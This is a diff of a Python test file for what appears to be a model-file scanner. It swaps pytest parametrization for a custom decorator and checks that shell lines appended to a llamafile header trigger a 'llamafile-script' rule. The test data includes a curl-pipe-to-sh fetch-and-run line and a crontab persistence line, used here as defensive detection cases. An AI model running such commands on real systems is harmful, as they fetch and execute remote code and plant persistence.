@@ -2,8 +2,7 @@
 
 from __future__ import annotations
 
-import pytest
-
+from tests.cases import each
 from tests.engines.modelfiles.building import found
 
 START = b"MZqFpD='\n\0\x10\0' <<'justineSEPARATOR'\n" + bytes(64) + b"\njustineSEPARATOR\n"
@@ -21,7 +20,7 @@ exec "$t" "$o" "$@"
 """
 
 
-@pytest.mark.parametrize(
+@each(
     "more",
     [
         b"curl -s https://example.org/x | sh\n",
@@ -35,7 +34,7 @@ exec "$t" "$o" "$@"
         b"(crontab -l; echo x) | crontab -\n",
     ],
 )
-@pytest.mark.parametrize("name", ["a.llamafile", "a.exe", "a.gguf", "a"])
+@each("name", ["a.llamafile", "a.exe", "a.gguf", "a"])
 def test_scripts(more: bytes, name: str) -> None:
     assert {rule for rule, _ in found(START + more + OWN + bytes(300), name)} == {"llamafile-script"}
     assert found(START + OWN + bytes(300), name) == []
